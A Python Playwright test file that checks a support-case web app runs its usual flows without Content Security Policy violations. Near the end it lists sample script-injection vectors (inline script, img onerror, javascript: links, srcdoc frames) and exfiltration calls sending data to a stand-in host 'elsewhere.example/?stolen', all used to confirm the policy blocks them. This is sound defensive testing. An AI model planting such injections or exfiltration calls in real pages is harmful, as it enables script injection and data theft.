"""Pages run and load what is theirs, under a policy that they never offend, and nothing else."""

import re
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Route, expect

from tests.browser.configuring import the_demo_s_settings_hold
from tests.browser.conftest import SignIn, signing_in
from tests.browser.events import a_case_arrives
from tests.browser.test_api_keys import make, row, shown
from tests.servers.ports import free_port
from tests.servers.program import Program

ELSEWHERE = "https://elsewhere.example"
# What the browser says of pages that the policy keeps from something.
OFFENDED = ("Content Security Policy", "Trusted", "unsafe-eval", "Permissions policy")


@pytest.fixture
def settings_of_the_demo(program: Program) -> Iterator[None]:
    the_demo_s_settings_hold(program)
    yield
    the_demo_s_settings_hold(program)


@contextmanager
def unoffended(page: Page) -> Iterator[Page]:
    """Whatever the page does meanwhile, it does within its policy."""
    said: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if any(mark in message.text for mark in OFFENDED):
            said.append(message.text)

    page.on("console", hear)
    page.on("pageerror", lambda error: said.append(str(error)))
    report = "document.addEventListener('securitypolicyviolation', e => console.error("
    page.add_init_script(f"{report}'Content Security Policy', e.violatedDirective, e.sample))")
    page.reload()
    yield page
    page.wait_for_timeout(500)
    assert said == []


def test_a_case_is_worked_on_within_the_policy(sign_in: SignIn, program: Program) -> None:
    case_id = a_case_arrives(program)
    with unoffended(sign_in("admin", path=f"/queue/published?case={case_id}")) as page:
        page.get_by_role("button", name="Generate summary").click()
        expect(page.get_by_test_id("summary-sentence").first).to_be_visible()
        page.get_by_role("button", name="Claim", exact=True).click()
        page.get_by_role("button", name="Enable sound").click()
        page.get_by_role("button", name="Complete", exact=True).first.click()
        page.get_by_label("What happened").fill("Charged twice.")
        page.get_by_label("What was done").fill("Refunded.")
        page.get_by_role("button", name="Complete", exact=True).last.click()
        expect(
            page.locator('[data-testid="timeline-entry"][data-kind="completed"]')
        ).to_be_visible()
        expect(page.locator("[data-sonner-toast]")).to_contain_text(
            f"Case #{case_id} is completed."
        )
        # Its style sheet was let in, too.
        expect(page.locator("[data-sonner-toaster]")).to_have_css("position", "fixed")
        page.get_by_label("Search").fill("charged")
        page.wait_for_url("**q=charged**")
        page.get_by_role("link", name="Preview queue").click()
        expect(page.get_by_text("They are not live operations.")).to_be_visible()


def test_settings_are_published_within_the_policy(
    sign_in: SignIn, settings_of_the_demo: None
) -> None:
    with unoffended(sign_in("lina", path="/settings")) as page:
        page.get_by_label("Message to the end user").fill("Somebody is on their way.")
        page.get_by_role("button", name="Save", exact=True).click()
        expect(page.get_by_text("Saved. The preview queue runs on it now.")).to_be_visible()
        page.get_by_role("button", name="Publish", exact=True).click()
        page.get_by_role("dialog").get_by_role("button", name="Publish").click()
        expect(page.get_by_text(re.compile(r"Version \d+ is published\."))).to_be_visible()


def test_a_conversation_is_held_within_the_policy(sign_in: SignIn) -> None:
    with unoffended(sign_in("lina", path="/conversation")) as page:
        page.get_by_role("button", name="Start the angry customer").click()
        page.get_by_role("button", name="Next message").click()
        expect(page.get_by_test_id("message").first).to_be_visible()


def test_a_key_is_made_and_copied_within_the_policy(sign_in: SignIn) -> None:
    with unoffended(sign_in("admin", path="/keys")) as page:
        make(page, "maria", "Within the policy")
        expect(shown(page)).to_be_visible()
        page.get_by_role("button", name="Copy").click()
        page.get_by_role("button", name="I have it: put it away").click()
        row(page, "Within the policy").get_by_role("button").click()
        page.get_by_role("dialog").get_by_role("button", name="Revoke", exact=True).click()
        expect(row(page, "Within the policy")).to_have_attribute("data-revoked", "true")


def test_signing_out_leads_to_a_sign_in_within_the_policy(sign_in: SignIn) -> None:
    with unoffended(sign_in("maria")) as page:
        page.get_by_role("button", name="Sign out").click()
        expect(page.get_by_text("You are signed out.")).to_be_visible()


def test_the_documentation_of_the_api_asks_within_the_policy(
    sign_in: SignIn, program: Program
) -> None:
    maria = sign_in("maria")
    maria.goto(f"{program.address}/api/docs")
    with unoffended(maria) as page:
        page.get_by_role("button", name="GET /api/v1/settings", exact=False).first.click()
        page.get_by_role("button", name="Try it out").click()
        page.get_by_role("button", name="Execute").click()
        expect(page.get_by_text("401").first).to_be_visible()


def test_a_page_that_is_none_says_so_within_the_policy(sign_in: SignIn, program: Program) -> None:
    maria = sign_in("maria")
    maria.goto(f"{program.address}/elsewhere")
    with unoffended(maria) as page:
        expect(page.get_by_role("heading")).to_be_visible()


INJECTIONS = {
    "a script in the page": (
        "() => { const s = document.createElement('script');"
        "s.append('window.__ran = true'); document.body.append(s) }"
    ),
    "a script from elsewhere": (
        "() => { const s = document.createElement('script');"
        f"s.setAttribute('src', '{ELSEWHERE}/ran.js'); document.body.append(s) }}"
    ),
    "a script as data": (
        "() => { const s = document.createElement('script');"
        "s.setAttribute('src', 'data:text/javascript,window.__ran = true');"
        "document.body.append(s) }"
    ),
    "an attribute that is a script": (
        "() => { const b = document.createElement('button');"
        "b.setAttribute('onclick', 'window.__ran = true'); document.body.append(b); b.click() }"
    ),
    "a link that is a script": (
        "() => { const a = document.createElement('a');"
        "a.href = 'javascript:void(window.__ran = true)'; document.body.append(a); a.click() }"
    ),
    "markup": (
        "() => document.body.insertAdjacentHTML('beforeend',"
        "'<img src=x onerror=\"window.__ran = true\">')"
    ),
    "a frame with a script": (
        "() => { const f = document.createElement('iframe');"
        "f.setAttribute('srcdoc', '<script>top.__ran = true</script>'); document.body.append(f) }"
    ),
    "text that is evaluated": "() => setTimeout('window.__ran = true')",
    "the framework's own evaluation": (
        "() => window.__reflex['$/utils/state'].applyEvent({name: '_call_script',"
        "payload: {javascript_code: 'window.__ran = true'}})"
    ),
}


@pytest.mark.parametrize("injection", INJECTIONS)
def test_what_somebody_brings_into_a_page_does_not_run(sign_in: SignIn, injection: str) -> None:
    page, asked_for = watched(sign_in)
    # The page itself does it, as a fault in it would: what a test evaluates is let through.
    page.evaluate(f"() => {{ setTimeout(() => ({INJECTIONS[injection]})()) }}")
    page.wait_for_timeout(700)
    assert page.evaluate("window.__ran") is None
    assert asked_for == []


WAYS_OUT = {
    "a request": f"() => fetch('{ELSEWHERE}/?stolen')",
    "a beacon": f"() => navigator.sendBeacon('{ELSEWHERE}/?stolen')",
    "a picture": f"() => {{ new Image().src = '{ELSEWHERE}/?stolen' }}",
    "a style sheet": (
        "() => { const l = document.createElement('link'); l.rel = 'stylesheet';"
        f"l.href = '{ELSEWHERE}/?stolen'; document.head.append(l) }}"
    ),
    "a form": (
        "() => { const f = document.createElement('form');"
        f"f.action = '{ELSEWHERE}/?stolen'; document.body.append(f); f.submit() }}"
    ),
}


@pytest.mark.parametrize("way", WAYS_OUT)
def test_nothing_of_a_page_is_sent_elsewhere(sign_in: SignIn, way: str) -> None:
    page, asked_for = watched(sign_in)
    page.evaluate(f"() => {{ setTimeout(() => ({WAYS_OUT[way]})()) }}")
    page.wait_for_timeout(700)
    assert asked_for == []


def watched(sign_in: SignIn) -> tuple[Page, list[str]]:
    """Maria's page, and what it asks of elsewhere, where a script waits."""
    page, asked_for = sign_in("maria"), list[str]()

    def answer(route: Route) -> Any:
        asked_for.append(route.request.url)
        route.fulfill(body="window.__ran = true", content_type="text/javascript")

    page.route(f"{ELSEWHERE}/**", answer)
    return page, asked_for


def test_the_demo_lets_test_tools_wait_in_the_page(
    browser: Browser, tmp_path_factory: pytest.TempPathFactory
) -> None:
    port = free_port()
    demo = Program(
        tmp_path_factory.mktemp("demo"),
        port,
        port,
        surroundings={"ESCALATION_PAGE_EVALUATION": "1"},
    )
    demo.start()
    try:
        with signing_in(demo, browser) as sign_in:
            maria = sign_in("maria")
            maria.wait_for_function(
                "document.querySelectorAll('[data-testid=escalation-row]').length"
            )
    finally:
        demo.stop()
